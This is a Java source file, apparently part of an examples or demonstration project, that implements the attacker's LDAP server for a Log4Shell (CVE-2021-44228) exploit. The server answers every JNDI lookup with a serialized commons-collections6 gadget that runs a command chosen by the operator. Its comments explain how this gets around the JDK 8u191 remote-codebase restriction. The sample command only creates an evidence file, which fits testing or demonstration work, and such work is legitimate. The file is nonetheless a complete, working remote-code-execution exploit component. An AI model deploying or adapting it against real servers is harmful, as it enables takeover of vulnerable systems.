package dev.inlay.examples.attacker;

import com.unboundid.ldap.listener.InMemoryDirectoryServer;
import com.unboundid.ldap.listener.InMemoryDirectoryServerConfig;
import com.unboundid.ldap.listener.InMemoryListenerConfig;
import com.unboundid.ldap.listener.interceptor.InMemoryInterceptedSearchResult;
import com.unboundid.ldap.listener.interceptor.InMemoryOperationInterceptor;
import com.unboundid.ldap.sdk.Entry;
import com.unboundid.ldap.sdk.LDAPException;
import com.unboundid.ldap.sdk.LDAPResult;
import com.unboundid.ldap.sdk.ResultCode;

import java.io.IOException;
import java.io.PrintStream;
import java.net.InetAddress;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The attacker's end of a Log4Shell (CVE-2021-44228) exploitation: an LDAP server that answers every lookup with a
 * {@code javaSerializedData} attribute holding a commons-collections gadget. JNDI on the victim deserializes it
 * ({@code com.sun.jndi.ldap.object.trustSerialData} is true up to JDK 21), so this works although remote codebases
 * have been disabled since JDK 8u191.
 *
 * <pre>java -jar attacker.jar PORT COMMAND [ARGS...]     e.g. 1389 touch /app/data/docs/{rdn}</pre>
 * In the command, {@code {rdn}} stands for the value of the looked-up name's first RDN ({@code o=pwned-42} gives
 * {@code pwned-42}, letters, digits, {@code -} and {@code _} only), so that each exploitation attempt leaves its own
 * evidence. Every lookup is printed as a line starting with {@code LDAP-LOOKUP}: proof that the victim called out.
 */
public final class LdapServer implements AutoCloseable {
    private final InMemoryDirectoryServer server;
    private final AtomicInteger lookups = new AtomicInteger();

    public LdapServer(int port, List<String> command, PrintStream log) throws LDAPException, IOException {
        InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig("dc=inlay,dc=example");
        config.setListenerConfigs(
                InMemoryListenerConfig.createLDAPConfig("ldap", InetAddress.getByName("0.0.0.0"), port, null));
        config.setSchema(null);
        config.addInMemoryOperationInterceptor(new InMemoryOperationInterceptor() {
            @Override
            public void processSearchResult(InMemoryInterceptedSearchResult result) {
                String base = result.getRequest().getBaseDN();
                lookups.incrementAndGet();
                List<String> concrete = command.stream()
                        .map(arg -> arg.replace("{rdn}", firstRdnValue(base)))
                        .toList();
                log.printf(
                        "LDAP-LOOKUP %s base=%s from=%s answer=commons-collections6 command=%s%n",
                        Instant.now(), base, result.getConnectedAddress(), concrete);
                log.flush();
                try {
                    byte[] gadget = Gadgets.commonsCollections6(concrete);
                    Entry entry = new Entry(base.isEmpty() ? "o=inlay" : base);
                    entry.addAttribute("objectClass", "top", "javaNamingReference");
                    entry.addAttribute("javaClassName", "java.lang.String");
                    entry.addAttribute("javaSerializedData", gadget);
                    result.sendSearchEntry(entry);
                    result.setResult(new LDAPResult(0, ResultCode.SUCCESS));
                } catch (LDAPException | IOException | ReflectiveOperationException e) {
                    log.println("LDAP-ERROR " + e);
                }
            }
        });
        server = new InMemoryDirectoryServer(config);
    }

    static String firstRdnValue(String dn) {
        String first = dn.split(",", 2)[0];
        String value = first.substring(first.indexOf('=') + 1);
        String safe = value.replaceAll("[^A-Za-z0-9_-]", "");
        return safe.isEmpty() ? "pwned-jndi" : safe;
    }

    public static void main(String[] args) throws Exception {
        if (args.length < 2) {
            System.err.println("usage: LdapServer PORT COMMAND [ARGS...]");
            System.exit(2);
        }
        LdapServer ldap = new LdapServer(
                Integer.parseInt(args[0]), List.of(Arrays.copyOfRange(args, 1, args.length)), System.out);
        ldap.start();
        System.out.println("attacker LDAP server on :" + ldap.port() + ", answering with a gadget running "
                + String.join(" ", Arrays.copyOfRange(args, 1, args.length)));
    }

    public void start() throws LDAPException {
        server.startListening();
    }

    public int port() {
        return server.getListenPort();
    }

    public int lookups() {
        return lookups.get();
    }

    @Override
    public void close() {
        server.shutDown(true);
    }
}
